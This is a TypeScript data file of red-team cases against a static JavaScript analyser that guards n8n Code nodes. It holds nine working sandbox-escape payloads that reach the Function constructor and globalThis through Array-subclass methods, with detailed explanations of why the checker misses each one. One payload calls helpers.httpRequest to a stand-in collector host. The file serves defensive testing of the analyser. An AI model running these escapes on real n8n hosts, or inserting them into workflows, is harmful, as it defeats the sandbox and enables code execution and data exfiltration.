// Round 9 of the code-purity red team: confirmed with ./n8n-sandbox.ts (default runner flags and hardened host,
// Node 24.21.0 as n8n 2.41.1 runs it) while analyzeJavaScript() reports nothing.
// One new class: strict `this` (class methods) is untracked, yet the engine hands class methods receivers the
// code never named (instances of an Array subclass that built-ins fill with an unknown value).
import type { RedTeamBypass, RedTeamFalsePositive } from './bypasses.js';

export const ROUND9: RedTeamBypass[] = [
  {
    "id": "strict-this/array-subclass-of-tostring",
    "cls": "strict-this-engine-receiver",
    "code": "const F = (() => 0)[items[0].json.key];\nlet G;\nclass B extends Array { toString() { G = this[0]('return globalThis')(); return 'x'; } }\nString(B.of(F));\nreturn [{ json: { g: G } }];",
    "why": "A method of a class is strict, so the analysis gives `this` in it no value at all (computeCapability: ThisExpression is the global object only in sloppy code; otherwise undefined = the code's own data), on the theory that strict `this` is a receiver the code passed. But the engine also calls class methods with a receiver the code never named: an instance of an Array subclass built by a built-in out of an unknown value (B.of(F), B.from([F]), species via concat/map) holds F at index 0, and `this[0]` inside the method is a read of an untracked object, which gives ambient() (clean, since nothing tainted the heap: of/from/concat are NON_INVOKING and not STORING, and an array literal [F] is not a heap store). So `this[0]('return globalThis')()` is a call of 'plain data'. The unknown instance itself is only converted with String(), which is allowed on an unknown value; ToPrimitive calls the class's own toString with this = the instance. The compiled `return globalThis` result leaves through an outer let (G), whose value is the call's result: clean."
  },
  {
    "id": "strict-this/array-subclass-getter-read",
    "cls": "strict-this-engine-receiver",
    "code": "const F = (() => 0)[items[0].json.key];\nlet G;\nclass B extends Array { get run() { G = this[0]('return globalThis')(); return 1; } }\nvoid B.of(F).run;\nreturn [{ json: { g: G } }];",
    "why": "A method of a class is strict, so the analysis gives `this` in it no value at all (computeCapability: ThisExpression is the global object only in sloppy code; otherwise undefined = the code's own data), on the theory that strict `this` is a receiver the code passed. But the engine also calls class methods with a receiver the code never named: an instance of an Array subclass built by a built-in out of an unknown value (B.of(F), B.from([F]), species via concat/map) holds F at index 0, and `this[0]` inside the method is a read of an untracked object, which gives ambient() (clean, since nothing tainted the heap: of/from/concat are NON_INVOKING and not STORING, and an array literal [F] is not a heap store). So `this[0]('return globalThis')()` is a call of 'plain data'. The unknown instance itself is only read at .run: reading a property of an unknown value is allowed and gives unknown, but the read runs the class's own getter with this = the instance. No protocol key is involved at all."
  },
  {
    "id": "strict-this/array-subclass-thenable",
    "cls": "strict-this-engine-receiver",
    "code": "const F = (() => 0)[items[0].json.key];\nlet G;\nclass B extends Array { then() { G = this[0]('return globalThis')(); } }\nPromise.resolve(B.of(F));\nawait 0; await 0;\nreturn [{ json: { g: G } }];",
    "why": "A method of a class is strict, so the analysis gives `this` in it no value at all (computeCapability: ThisExpression is the global object only in sloppy code; otherwise undefined = the code's own data), on the theory that strict `this` is a receiver the code passed. But the engine also calls class methods with a receiver the code never named: an instance of an Array subclass built by a built-in out of an unknown value (B.of(F), B.from([F]), species via concat/map) holds F at index 0, and `this[0]` inside the method is a read of an untracked object, which gives ambient() (clean, since nothing tainted the heap: of/from/concat are NON_INVOKING and not STORING, and an array literal [F] is not a heap store). So `this[0]('return globalThis')()` is a call of 'plain data'. The unknown instance itself is only handed to Promise.resolve (NON_INVOKING '*'): the instance is a thenable, so a job calls the class's own then() with this = the instance (then is a protocol key, but an own method there is 'checked code')."
  },
  {
    "id": "strict-this/array-subclass-iterator",
    "cls": "strict-this-engine-receiver",
    "code": "const F = (() => 0)[items[0].json.key];\nlet G;\nclass B extends Array { *[Symbol.iterator]() { G = this[0]('return globalThis')(); yield 1; } }\nfor (const x of B.of(F)) void x;\nreturn [{ json: { g: G } }];",
    "why": "A method of a class is strict, so the analysis gives `this` in it no value at all (computeCapability: ThisExpression is the global object only in sloppy code; otherwise undefined = the code's own data), on the theory that strict `this` is a receiver the code passed. But the engine also calls class methods with a receiver the code never named: an instance of an Array subclass built by a built-in out of an unknown value (B.of(F), B.from([F]), species via concat/map) holds F at index 0, and `this[0]` inside the method is a read of an untracked object, which gives ambient() (clean, since nothing tainted the heap: of/from/concat are NON_INVOKING and not STORING, and an array literal [F] is not a heap store). So `this[0]('return globalThis')()` is a call of 'plain data'. The unknown instance itself is only iterated by for...of (allowed on unknown): the class's own generator method under Symbol.iterator runs with this = the instance."
  },
  {
    "id": "strict-this/array-subclass-map-species-toJSON",
    "cls": "strict-this-engine-receiver",
    "code": "const F = (() => 0)[items[0].json.key];\nlet G;\nclass B extends Array { toJSON() { G = this[0]('return globalThis')(); return 1; } }\nJSON.stringify(B.of(0).map(() => F));\nreturn [{ json: { g: G } }];",
    "why": "A method of a class is strict, so the analysis gives `this` in it no value at all (computeCapability: ThisExpression is the global object only in sloppy code; otherwise undefined = the code's own data), on the theory that strict `this` is a receiver the code passed. But the engine also calls class methods with a receiver the code never named: an instance of an Array subclass built by a built-in out of an unknown value (B.of(F), B.from([F]), species via concat/map) holds F at index 0, and `this[0]` inside the method is a read of an untracked object, which gives ambient() (clean, since nothing tainted the heap: of/from/concat are NON_INVOKING and not STORING, and an array literal [F] is not a heap store). So `this[0]('return globalThis')()` is a call of 'plain data'. The unknown instance itself is only built by species: B.of(0) is clean, `.map(() => F)` creates a B (Array species) holding F; JSON.stringify (stringify: 0) calls the class's own toJSON with this = that array."
  },
  {
    "id": "strict-this/array-subclass-getter-helpers",
    "cls": "strict-this-engine-receiver",
    "code": "const F = (() => 0)[items[0].json.key];\nclass B extends Array { get send() { return this[0]('return helpers.httpRequest({ url: \"https://collector.invalid/\" })')(); } }\nawait B.of(F).send;\nreturn [{ json: { ok: 1 } }];",
    "why": "A method of a class is strict, so the analysis gives `this` in it no value at all (computeCapability: ThisExpression is the global object only in sloppy code; otherwise undefined = the code's own data), on the theory that strict `this` is a receiver the code passed. But the engine also calls class methods with a receiver the code never named: an instance of an Array subclass built by a built-in out of an unknown value (B.of(F), B.from([F]), species via concat/map) holds F at index 0, and `this[0]` inside the method is a read of an untracked object, which gives ambient() (clean, since nothing tainted the heap: of/from/concat are NON_INVOKING and not STORING, and an array literal [F] is not a heap store). So `this[0]('return globalThis')()` is a call of 'plain data'. The unknown instance itself is only payload form of the getter read: the getter compiles and calls `return helpers.httpRequest(...)`, whose promise is awaited: helpers.httpRequest is called."
  },
  {
    "id": "strict-this/array-subclass-from-valueOf",
    "cls": "strict-this-engine-receiver",
    "code": "const F = (() => 0)[items[0].json.key];\nlet G;\nclass B extends Array { valueOf() { G = this[0]('return globalThis')(); return 1; } }\nvoid (B.from([F]) + 1);\nreturn [{ json: { g: G } }];",
    "why": "A method of a class is strict, so the analysis gives `this` in it no value at all (computeCapability: ThisExpression is the global object only in sloppy code; otherwise undefined = the code's own data), on the theory that strict `this` is a receiver the code passed. But the engine also calls class methods with a receiver the code never named: an instance of an Array subclass built by a built-in out of an unknown value (B.of(F), B.from([F]), species via concat/map) holds F at index 0, and `this[0]` inside the method is a read of an untracked object, which gives ambient() (clean, since nothing tainted the heap: of/from/concat are NON_INVOKING and not STORING, and an array literal [F] is not a heap store). So `this[0]('return globalThis')()` is a call of 'plain data'. The unknown instance itself is only built by B.from([F]) (from: 0 is NON_INVOKING), converted by `+ 1`: the class's own valueOf runs with this = the instance."
  },
  {
    "id": "strict-this/array-subclass-concat-species-getter",
    "cls": "strict-this-engine-receiver",
    "code": "const F = (() => 0)[items[0].json.key];\nlet G;\nclass B extends Array { get run() { G = this[1]('return globalThis')(); return 1; } }\nvoid B.of(0).concat([F]).run;\nreturn [{ json: { g: G } }];",
    "why": "A method of a class is strict, so the analysis gives `this` in it no value at all (computeCapability: ThisExpression is the global object only in sloppy code; otherwise undefined = the code's own data), on the theory that strict `this` is a receiver the code passed. But the engine also calls class methods with a receiver the code never named: an instance of an Array subclass built by a built-in out of an unknown value (B.of(F), B.from([F]), species via concat/map) holds F at index 0, and `this[0]` inside the method is a read of an untracked object, which gives ambient() (clean, since nothing tainted the heap: of/from/concat are NON_INVOKING and not STORING, and an array literal [F] is not a heap store). So `this[0]('return globalThis')()` is a call of 'plain data'. The unknown instance itself is only built by species from a clean instance: B.of(0).concat([F]) makes a B holding F at index 1; a getter read runs with this = it."
  },
  {
    "id": "strict-this/array-subclass-each-item",
    "cls": "strict-this-engine-receiver",
    "code": "if ($json.key !== 'constructor') return { json: {} };\nconst F = (() => 0)[$json.key];\nlet G;\nclass B extends Array { get run() { G = this[0]('return globalThis')(); return 1; } }\nvoid B.of(F).run;\nreturn { json: { g: G } };",
    "why": "A method of a class is strict, so the analysis gives `this` in it no value at all (computeCapability: ThisExpression is the global object only in sloppy code; otherwise undefined = the code's own data), on the theory that strict `this` is a receiver the code passed. But the engine also calls class methods with a receiver the code never named: an instance of an Array subclass built by a built-in out of an unknown value (B.of(F), B.from([F]), species via concat/map) holds F at index 0, and `this[0]` inside the method is a read of an untracked object, which gives ambient() (clean, since nothing tainted the heap: of/from/concat are NON_INVOKING and not STORING, and an array literal [F] is not a heap store). So `this[0]('return globalThis')()` is a call of 'plain data'. The unknown instance itself is only written for runOnceForEachItem (key from $json; confirmed in both modes): B.of(F).run runs the getter with this = the instance."
  }
];

export const ROUND9_FALSE_POSITIVES: RedTeamFalsePositive[] = [
  {
    "id": "fp/map-lookup-of-configured-field",
    "code": "const field = $parameter.field;\nconst byId = new Map();\nfor (const it of items) byId.set(it.json.id, it.json[field]);\nreturn items.map((it) => ({ json: { id: it.json.id, v: String(byId.get(it.json.id)).trim() } }));",
    "why": "A Map used as an id -> value lookup table of a configured field, values only stringified: nothing unknown is ever called. byId.set(id, it.json[field]) stores an unknown value in a Map (STORING), so the heap is tainted; `new Map()` then gives ambient() = unknown, and on an unknown receiver every argument 'may be called' (mayInvokeArgument returns true), so set and get are reported as calling their arguments. The oracle obtains nothing."
  }
];
